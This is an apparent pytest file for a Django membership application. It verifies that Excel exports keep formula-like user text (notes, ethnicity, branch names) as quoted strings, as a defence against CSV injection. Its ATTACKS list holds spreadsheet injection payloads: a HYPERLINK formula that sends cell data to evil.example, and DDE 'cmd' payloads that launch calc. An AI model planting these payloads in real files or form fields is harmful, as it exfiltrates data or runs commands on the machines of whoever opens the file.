"""Excel exports store user text as text: a note or an ethnicity that begins with =, +, -, @, tab
or CR comes back as a string cell with Excel's quote prefix, never as a formula (OWASP CSV injection)."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from admission.imports.template import import_template_build
from admission.reporting.plans import annual_plan_set
from admission.spreadsheets import cell_write
from members.models import MemberStatus
from tests.factories import MemberFactory, PersonFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _client(user):  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(user)
    return client


def _cells(content: bytes) -> list:  # type: ignore[type-arg]
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("text", ATTACKS)
def test_the_writer_stores_formula_like_text_as_quoted_text(text: str) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    cell_write(sheet["A1"], text)
    cell_write(sheet["A2"], "Kinh")
    cell_write(sheet["A3"], 42)
    buffer = io.BytesIO()
    book.save(buffer)
    saved = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert saved is not None
    assert saved["A1"].data_type == "s" and saved["A1"].quotePrefix is True
    assert saved["A1"].value == text.replace("\r", "\n") or saved["A1"].value == text  # XML may normalise CR
    assert saved["A2"].data_type == "s" and not saved["A2"].quotePrefix
    assert saved["A3"].data_type == "n" and saved["A3"].value == 42


def test_the_writer_drops_characters_an_xlsx_cannot_hold() -> None:
    sheet = Workbook().active
    assert sheet is not None
    assert cell_write(sheet["A1"], "Nguyễn\x00 Văn\x07 A").value == "Nguyễn Văn A"


def test_the_plans_export_keeps_a_formula_note_as_text(tree, carol, gina) -> None:  # type: ignore[no-untyped-def]
    annual_plan_set(
        acting_user=gina,
        organisation=tree.committee,
        year=2026,
        admit=3,
        awareness_class=1,
        new_member_class=1,
        note=ATTACKS[0][:200],
    )
    response = _client(carol).get(reverse("plan_export", args=[tree.committee.pk]), {"year": "2026"})
    assert response.status_code == 200
    cells = _cells(response.content)
    note = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert len(note) == 1
    assert note[0].data_type == "s" and note[0].quotePrefix is True
    assert not [c for c in cells if c.data_type == "f"]


def test_the_people_export_keeps_formula_like_fields_as_text(tree, carol) -> None:  # type: ignore[no-untyped-def]
    for index, text in enumerate(ATTACKS[:4]):
        person = PersonFactory(organisation=tree.branch_a, full_name=f"Người Thử {index}", ethnicity=text[:40])
        MemberFactory(person=person, status=MemberStatus.OFFICIAL)
    response = _client(carol).get(
        reverse("statistics_people_export", args=[tree.committee.pk]),
        {
            "start": "01/01/2026",
            "end": "31/12/2026",
            "admitted_by": "ceremony",
            "baseline": "year_start",
            "figure": "members_end",
            "key": "all",
        },
    )
    assert response.status_code == 200
    cells = _cells(response.content)
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert sorted(c.value for c in risky) == sorted(text[:40] for text in ATTACKS[:4])
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    assert not [c for c in cells if c.data_type == "f"]


def test_the_import_template_writes_branch_names_as_text(tree) -> None:  # type: ignore[no-untyped-def]
    content = import_template_build(organisation=tree.committee, branch_codes=[("A", "=cmd|' /C calc'!A0")])
    cells = _cells(content)
    name = [c for c in cells if c.value == "=cmd|' /C calc'!A0"]
    assert name and all(c.data_type == "s" and c.quotePrefix for c in name)
    assert not [c for c in cells if c.data_type == "f"]
